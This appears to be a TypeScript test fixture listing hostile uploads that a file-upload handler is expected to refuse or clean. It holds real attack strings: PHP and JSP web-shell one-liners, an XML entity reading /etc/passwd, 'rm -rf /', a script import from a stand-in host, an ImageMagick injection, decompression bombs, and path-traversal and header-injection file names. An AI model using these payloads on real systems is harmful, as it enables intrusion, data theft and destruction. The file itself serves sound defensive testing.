/*
 * Files that should do harm. Every cleaned or attached one carries the word `canary` where it hides
 * something; none of the answers may bring it back.
 */
import { deflateRawSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pdf, picture, pngChunk, pngClaiming } from '#tests/helpers/uploads'

/**
 * What becomes of a file: refused with a 4xx, written anew without what was hidden, or (only where
 * documents are taken) kept as it is and handed out as an attachment.
 */
type Fate = 'refused' | 'cleaned' | 'attached'

export interface HostileFile {
  what: string
  fileName: string
  bytes: () => Buffer | Promise<Buffer>
  asImage: Fate
  asDocument: Fate
}

type Bytes = HostileFile['bytes']

const as =
  (asImage: Fate, asDocument: Fate = asImage) =>
  (what: string, bytes: Bytes, fileName = 'a.png'): HostileFile => ({
    what,
    fileName,
    bytes,
    asImage,
    asDocument,
  })
const refused = as('refused')
const cleaned = as('cleaned')
const attached = as('refused', 'attached')

const text = (content: string, encoding: BufferEncoding = 'latin1') =>
  Buffer.from(content, encoding)
const begins = (magic: string) => () => Buffer.concat([text(magic), Buffer.alloc(512, 'canary')])
const after = async (bytes: Promise<Buffer>, tail: string | Buffer) =>
  Buffer.concat([await bytes, Buffer.from(tail)])
const part = async (bytes: Promise<Buffer>, share: number) =>
  (await bytes).subarray(0, Math.floor((await bytes).length * share))
const big = { width: 800, height: 600 }

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("canary")</script></svg>'
const html = '<!doctype html><script>alert("canary")</script>'

/** A ZIP with one entry of so many zeros. */
function zip(name: string, zeros: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(zeros))
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(data.length, 18)
  head.writeUInt32LE(zeros, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, text(name), data])
}

/** A segment right behind the first two bytes of a JPEG. */
async function jpegWith(marker: number, content: string): Promise<Buffer> {
  const jpeg = await picture()
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, text(content), jpeg.subarray(2)])
}

async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await picture())
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  jpeg.writeUInt16BE(height, frame + 5)
  jpeg.writeUInt16BE(width, frame + 7)
  return jpeg
}

/** Says so for the screen and for its one frame. */
async function gifClaiming(side: number): Promise<Buffer> {
  const gif = Buffer.from(await picture('gif'))
  const size = Buffer.alloc(4)
  size.writeUInt16LE(gif.readUInt16LE(6), 0)
  size.writeUInt16LE(gif.readUInt16LE(8), 2)
  const frame = gif.indexOf(Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), size]))
  for (const at of [6, 8, frame + 5, frame + 7]) gif.writeUInt16LE(side, at)
  return gif
}

/** A chunk right behind the header of a PNG. */
async function pngWith(type: string, content: string | Buffer): Promise<Buffer> {
  const png = await picture('png')
  const headerEnd = 8 + 25
  const chunk = pngChunk(type, Buffer.from(content))
  return Buffer.concat([png.subarray(0, headerEnd), chunk, png.subarray(headerEnd)])
}

async function gifWithComment(): Promise<Buffer> {
  const gif = await picture('gif')
  const comment = text('\x21\xfe\x1e<script>alert("canary")</script\x00')
  return Buffer.concat([gif.subarray(0, -1), comment, gif.subarray(-1)])
}

function animated(format: 'gif' | 'webp'): Promise<Buffer> {
  const frames = Buffer.alloc(16 * 16 * 4 * 3, 0x80)
  const raw = { width: 16, height: 48, channels: 4 as const, pageHeight: 16 }
  return sharp(frames, { raw }).toFormat(format).toBuffer()
}

const photo = () => sharp({ create: { ...big, channels: 3, background: '#204080' } })

function pdfWith(object: string): Buffer {
  const [head, rest] = pdf().toString('latin1').split('/Type/Catalog')
  return text(`${head}/Type/Catalog${object}${rest}`)
}

const TEXTS: HostileFile[] = [
  refused('SVG with a script', () => text(svg), 'a.svg'),
  refused('SVG called PNG', () => text(svg)),
  refused('SVG with a declaration', () => text(`<?xml version="1.0"?>${svg}`)),
  refused('SVG behind a byte order mark', () => text(`\ufeff${svg}`, 'utf8')),
  refused('SVG in UTF-16', () => text(svg, 'utf16le')),
  refused('compressed SVG', () => gzipSync(svg), 'a.svgz'),
  refused('HTML', () => text(html), 'a.html'),
  refused('HTML called JPEG', () => text(html), 'a.jpg'),
  refused('HTML behind blanks', () => text(`${' \n'.repeat(600)}${html}`)),
  refused('HTML behind a comment', () => text(`<!--${'x'.repeat(2000)}-->${html}`)),
  refused('HTML in UTF-7', () => text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
  refused('XHTML', () => text(`<html xmlns="http://www.w3.org/1999/xhtml">${svg}</html>`)),
  refused('MHTML', () => text(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`)),
  refused('XML that reads files', () =>
    text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
  ),
  refused('JavaScript', () => text('alert("canary")'), 'a.js'),
  refused('JavaScript called PNG', () => text('import "//evil.test/x.js"')),
  refused('PHP with two extensions', () => text('<?php system($_GET[0]);'), 'a.php.png'),
  refused('PHP, short', () => text('<?=`$_GET[0]`?>'), 'a.png.php'),
  refused('JSP', () => text('<% Runtime.getRuntime().exec("x"); %>'), 'a.jsp'),
  refused('shell script', () => text('#!/bin/sh\nrm -rf /\n'), 'a.jpg.sh'),
  refused('settings of a web server', () => text('AddType text/html .png\n'), '.htaccess'),
  refused('style sheet', () => text('body{background:url(//evil.test)}'), 'a.css'),
  refused('PostScript', () => text('%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n'), 'a.eps'),
  refused('ImageMagick script', () => text('push graphic-context\nfill \'url(https://x"|id")\'')),
]

const BINARIES: HostileFile[] = [
  refused('Windows program', begins('MZ\x90\0'), 'a.exe'),
  refused('Linux program', begins('\x7fELF\x02\x01\x01')),
  refused('Java class', begins('\xca\xfe\xba\xbe')),
  refused('WebAssembly', begins('\0asm\x01\0\0\0')),
  refused('Flash', begins('CWS\x08')),
  refused('RAR', begins('Rar!\x1a\x07\0')),
  refused('7z', begins("7z\xbc\xaf'\x1c")),
  refused('ZIP', () => zip('a.txt', 100), 'a.zip'),
  refused('ZIP bomb', () => zip('bomb', 100 * 1024 ** 2), 'a.zip'),
  refused('Word document', () => zip('[Content_Types].xml', 100), 'a.docx'),
  refused('gzip bomb', () => gzipSync(Buffer.alloc(100 * 1024 ** 2)), 'a.png.gz'),
  refused('BMP', begins('BM\x36\x04\0\0'), 'a.bmp'),
  refused('TIFF', begins('II*\0\x08\0\0\0')),
  refused('icon', begins('\0\0\x01\0\x01\0')),
  refused('AVIF', begins('\0\0\0\x20ftypavif')),
  refused('HEIC', begins('\0\0\0\x18ftypheic')),
  refused('JPEG 2000', begins('\0\0\0\x0cjP  \r\n\x87\n')),
  refused('PSD', begins('8BPS\0\x01')),
  refused('video', begins('\0\0\0\x20ftypisom')),
  refused('sound in a RIFF', begins('RIFF\x04\0\0\0WAVEfmt ')),
  refused('0 bytes', () => Buffer.alloc(0)),
  refused('1 byte', () => text('\xff')),
  refused('only zeros', () => Buffer.alloc(4096)),
]

const BROKEN_IMAGES: HostileFile[] = [
  refused('a GIF header that is JavaScript', () => text('GIF89a=1;alert("canary")')),
  refused('a JPEG marker and HTML', () => text(`\xff\xd8\xff\xe0${html}`), 'a.jpg'),
  refused('a PNG signature and HTML', () => text(`\x89PNG\r\n\x1a\n${html}`)),
  refused('a WebP header and HTML', () => text(`RIFF\xff\0\0\0WEBP${html}`), 'a.webp'),
  refused('half a JPEG', () => part(picture('jpeg', big), 0.5)),
  refused('half a PNG', () => part(picture('png', big), 0.5)),
  refused('half a WebP', () => part(picture('webp', big), 0.5)),
  refused('half a GIF', () => part(picture('gif', big), 0.5)),
  refused('a PNG header alone', () => part(picture('png'), 0.1)),
  refused('PNG of 64,250 x 64,250', () => pngClaiming(64_250, 64_250)),
  refused('PNG of 41 megapixels', () => pngClaiming(8_200, 5_000)),
  refused('PNG of 2^31 - 1 columns', () => pngClaiming(2 ** 31 - 1, 1)),
  refused('PNG of no size', () => pngClaiming(0, 0)),
  refused('JPEG of 65,500 x 65,500', () => jpegClaiming(65_500, 65_500)),
  refused('GIF of 65,535 x 65,535', () => gifClaiming(65_535)),
]

const DOCUMENTS: HostileFile[] = [
  attached('PDF called PNG', () => pdf()),
  attached('PDF that runs JavaScript', () => pdfWith('/OpenAction<</S/JavaScript/JS(canary)>>')),
  attached(
    'PDF that starts a program',
    () => pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'),
    'a.pdf'
  ),
  attached('PDF with HTML inside', () => pdfWith(`/X(${html})`), 'a.html'),
  attached('PDF called SVG', () => pdfWith(''), 'a.svg'),
  attached('PDF with a line break in its name', () => pdf(), 'a\r\nX-Evil: 1.pdf'),
  refused('half a PDF', () => part(Promise.resolve(pdf()), 0.5), 'a.pdf'),
  refused('PDF behind HTML', () => Buffer.concat([text(html), pdf()]), 'a.pdf'),
]

const HIDING: HostileFile[] = [
  cleaned('JPEG that tells where it was made', () => picture('jpeg', { gps: true }), 'a.jpg'),
  cleaned('PNG that tells where it was made', () => picture('png', { gps: true })),
  cleaned('WebP that tells where it was made', () => picture('webp', { gps: true }), 'a.webp'),
  cleaned('JPEG with XMP', () => jpegWith(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x>canary</x>')),
  cleaned('JPEG with a comment', () => jpegWith(0xfe, '<script>alert("canary")</script>')),
  cleaned('JPEG with IPTC', () => jpegWith(0xed, 'Photoshop 3.0\x008BIM canary')),
  cleaned('JPEG and HTML', () => after(picture(), html), 'a.jpg.html'),
  cleaned('JPEG and ZIP', () => after(picture(), zip('canary', 100)), 'a.jar'),
  cleaned('PNG and PHP', () => after(picture('png'), '<?php canary();'), 'a.php'),
  cleaned('PNG with a text', () => pngWith('tEXt', 'Comment\0<script>canary</script>')),
  cleaned('PNG with a chunk of its own', () => pngWith('caNy', 'canary')),
  cleaned('GIF with a comment', gifWithComment, 'a.gif'),
  cleaned('GIF and JavaScript', () => after(picture('gif'), '/*canary*/alert(1)'), 'a.js'),
  cleaned('animated GIF', () => animated('gif'), 'a.gif'),
  cleaned('animated WebP', () => animated('webp'), 'a.webp'),
  cleaned('CMYK', () => photo().toColourspace('cmyk').jpeg().toBuffer(), 'a.jpg'),
  cleaned('16 bits a channel', () => photo().toColourspace('rgb16').png().toBuffer()),
  cleaned('grey', () => photo().grayscale().jpeg().toBuffer(), 'a.jpg'),
  cleaned('on its side', () => photo().withMetadata({ orientation: 6 }).jpeg().toBuffer()),
]

const NAMES: HostileFile[] = [
  '../../../etc/passwd',
  '..\\..\\boot.ini',
  '%2e%2e%2fpasswd.png',
  '/etc/cron.d/x.png',
  'C:\\Windows\\x.png',
  'a.png\0.php',
  'a.php%00.png',
  'a\r\nSet-Cookie: x=1.png',
  '"; filename="x.html',
  '<script>alert(1)</script>.png',
  '\u202egnp.exe',
  '.htaccess',
  'con.png',
  '..',
  `${'x'.repeat(5000)}.png`,
  '=cmd|calc!A1.png',
].map((name) =>
  cleaned(`the name ${JSON.stringify(name.slice(0, 40))}`, () => picture('png'), name)
)

export const HOSTILE_FILES = [
  ...TEXTS,
  ...BINARIES,
  ...BROKEN_IMAGES,
  ...DOCUMENTS,
  ...HIDING,
  ...NAMES,
]
